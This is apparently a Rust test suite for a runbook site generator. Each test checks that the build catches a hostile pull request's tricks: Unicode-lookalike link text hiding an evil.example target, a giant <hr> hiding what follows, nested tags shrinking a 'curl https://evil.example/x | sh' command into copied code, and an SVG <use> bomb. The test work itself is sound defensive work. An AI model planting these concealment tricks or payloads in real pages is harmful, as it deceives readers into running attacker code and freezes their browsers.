//! A twenty-first adversarial review (session 26): a hostile pull request's author trying
//! ways not tried before. Each test builds a small site in a temporary folder; each failed
//! on ec37b75.

mod common;

use common::{build_ok, problems, problems_of, site_of, stderr, OPS_SITE as SITE};

/// A link's text written with the ideographic full stop (`ops。example`, which IDNA and
/// so every browser takes for a dot), fullwidth forms (`https：／／`) or a fraction
/// slash shows the reader `ops.example`; to the check it was no
/// host, and the link led to evil.example without a word.
#[test]
fn link_text_with_lookalike_dots_slashes_or_letters_names_its_host() {
    let texts = [
        "https://ops\u{3002}example/login",
        "https://ops\u{FF0E}example/login",
        "www.ops\u{FF61}example",
        "https\u{FF1A}\u{FF0F}\u{FF0F}ops.example/login",
        "https://ops.example\u{2044}login",
        // One dot leader, ratio and division slash (session 28: already folded as read).
        "https://ops\u{2024}example/login",
        "https\u{2236}//ops.example/login",
        "https://ops.example\u{2215}login",
        "https\u{FF1A}//ops\u{FF0E}example\u{2044}login",
        "ops\u{2024}example\u{2215}login",
    ];
    let mut md = String::from("# A\n");
    for text in texts {
        md.push_str(&format!("\n[{text}](https://evil.example/)\n"));
    }
    // The same host written so is no warning.
    md.push_str("\n[https://ops\u{3002}example/x](https://ops.example/x)\n");
    let found = problems_of(&md);
    let says = "the link's text shows the host `ops.example`, but the link leads to `evil.example`";
    for (i, text) in texts.iter().enumerate() {
        let at = format!("content/runbooks/a.md:{} ", 3 + 2 * i);
        assert!(
            found.iter().any(|p| p.starts_with(&at) && p.contains(says)),
            "{}: {found:#?}",
            text.escape_unicode()
        );
    }
    assert_eq!(found.len(), texts.len(), "{found:#?}");
}

/// Every link showing one host and leading to another, or to a lookalike host, was a
/// warning of its own: a 4 MB runbook of them wrote 52,000 warnings, 12 MB of build log
/// (a CI log or a terminal drowned, the one real problem lost in it). The first 100 of a
/// page are told now, then one line counts the rest, as for broken links.
#[test]
fn misleading_links_are_told_a_hundred_per_page() {
    let mut md = String::from("# A\n\n");
    for i in 0..120 {
        md.push_str(&format!(
            "[https://ops.example/{i}](https://evil.example/)\n\n"
        ));
        md.push_str(&format!("[x{i}](https://p\u{0430}ypal.example/)\n\n"));
    }
    let found = problems_of(&md);
    let told = |says: &str| found.iter().filter(|p| p.contains(says)).count();
    assert_eq!(
        told("but the link leads to `evil.example`"),
        50,
        "{found:#?}"
    );
    assert_eq!(told("mixes letters of several scripts"), 50, "{found:#?}");
    let more: Vec<_> = found
        .iter()
        .filter(|p| p.contains("140 more links of this file show one address"))
        .collect();
    assert_eq!(more.len(), 1, "{found:#?}");
    assert!(more[0].starts_with("content/runbooks/a.md:1 "), "{more:?}");
    assert_eq!(found.len(), 101, "{found:#?}");
}

/// `<hr size="100000">` was kept: Chromium draws it 99,998 pixels high (measured with
/// the page's own styles), a blank hundred screens between one step and the next, so a
/// reader takes the page to end where the warning that follows it starts. The `size` is
/// removed now, said at its line; `align` and `width` stay.
#[test]
fn a_rule_cannot_be_drawn_high_enough_to_hide_what_follows() {
    let site = site_of(&[
        SITE,
        (
            "content/runbooks/a.md",
            "# A\n\n1. Check the replica\n\n<hr size=\"100000\" width=\"50%\">\n\n2. Never on production\n",
        ),
    ]);
    let err = stderr(&build_ok(site.path()));
    let page = common::article(site.path(), "a");
    assert!(page.contains("<hr width=\"50%\">"), "{page}");
    assert!(!page.contains("size="), "{page}");
    let found = problems(&err.replace("  --> ", "  ┌─ "));
    assert!(
        found
            .iter()
            .any(|p| p.starts_with("content/runbooks/a.md:5 ") && p.contains("size")),
        "{found:#?}"
    );
}

/// Twenty `<sub>` (or `<small>`, `<rt>`, or sixty `<code>`) nested in a code block drew
/// `; curl https://evil.example/x | sh` after `kubectl get pods` at 0.35 px, 7 px wide in
/// all (measured in Chromium with the page's styles): the reader saw `kubectl get pods`,
/// and Copy, or a selection, took the rest as well. Elements that shrink text nest two
/// deep now (`pre` and `code` three); deeper ones lose their tags, each said at its line.
#[test]
fn text_cannot_be_shrunk_out_of_sight_by_nesting() {
    let deep = |tag: &str, n: usize| {
        format!(
            "{}; curl https://evil.example/x | sh{}",
            format!("<{tag}>").repeat(n),
            format!("</{tag}>").repeat(n)
        )
    };
    let a = format!(
        "# A\n\n<pre><code>kubectl get pods{}</code></pre>\n",
        deep("sub", 20)
    );
    let b = format!("# B\n\nRun <code>ls</code>{} now.\n", deep("small", 12));
    let c = format!("# C\n\n<pre><code>{}</code></pre>\n", deep("code", 60));
    let site = site_of(&[
        SITE,
        ("content/runbooks/a.md", &a),
        ("content/runbooks/b.md", &b),
        ("content/runbooks/c.md", &c),
    ]);
    let err = stderr(&build_ok(site.path()));
    let found = problems(&err.replace("  --> ", "  ┌─ "));
    for (page, tag, kept, gone) in [
        ("a", "sub", "<sub><sub>; curl", "<sub><sub><sub>"),
        (
            "b",
            "small",
            "<small><small>; curl",
            "<small><small><small>",
        ),
        ("c", "code", "<pre><code><code>; curl", "<code><code><code>"),
    ] {
        let html = common::article(site.path(), page);
        assert!(
            html.contains(kept) && !html.contains(gone),
            "{gone}: {html}"
        );
        let at = format!("content/runbooks/{page}.md:3 ");
        let says = format!("`<{tag}>` inside");
        assert!(
            found
                .iter()
                .any(|p| p.starts_with(&at) && p.contains(&says)),
            "{page} {tag}: {found:#?}"
        );
    }
}

/// An SVG whose `<use>` elements use groups of `<use>`s (nine levels of ten, 1.8 kB)
/// makes a browser draw 10⁹ copies: as a runbook's image it held Chromium's page load
/// past 40 s, for every reader. Such an image is refused now, naming the file; one that
/// uses a shape a few times is copied as before.
#[test]
fn an_svg_whose_uses_multiply_is_refused() {
    let mut bomb = String::from(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><defs><path id=\"l0\" d=\"M0 0 L1 1\"/>",
    );
    for level in 1..10 {
        bomb.push_str(&format!("<g id=\"l{level}\">"));
        for _ in 0..10 {
            bomb.push_str(&format!("<use href=\"#l{}\"/>", level - 1));
        }
        bomb.push_str("</g>");
    }
    bomb.push_str("</defs><use href=\"#l9\"/></svg>");
    let fine = "<svg xmlns=\"http://www.w3.org/2000/svg\"><defs><circle id=\"c\" r=\"1\"/></defs>\
                <use href=\"#c\"/><use href=\"#c\" x=\"3\"/></svg>";
    let md = "# A\n\n![flow](bomb.svg) ![dot](fine.svg)\n";
    let site = site_of(&[
        SITE,
        ("content/runbooks/a.md", md),
        ("content/runbooks/bomb.svg", &bomb),
        ("content/runbooks/fine.svg", fine),
    ]);
    let out = common::pipebook(&["build", "--root", site.path().to_str().unwrap()]);
    let err = stderr(&out);
    // Left out with a warning, as an SVG that could run script is (md26): the rest builds.
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("`content/runbooks/bomb.svg` is not published: its `<use>` elements draw more than 10000 copies (or one draws itself), which freezes the page showing it\n"),
        "{err}"
    );
    assert!(!site.path().join("public/runbooks/bomb.svg").exists());
    assert!(site.path().join("public/runbooks/fine.svg").exists());
    assert!(!err.contains("fine.svg` is not published"), "{err}");
}
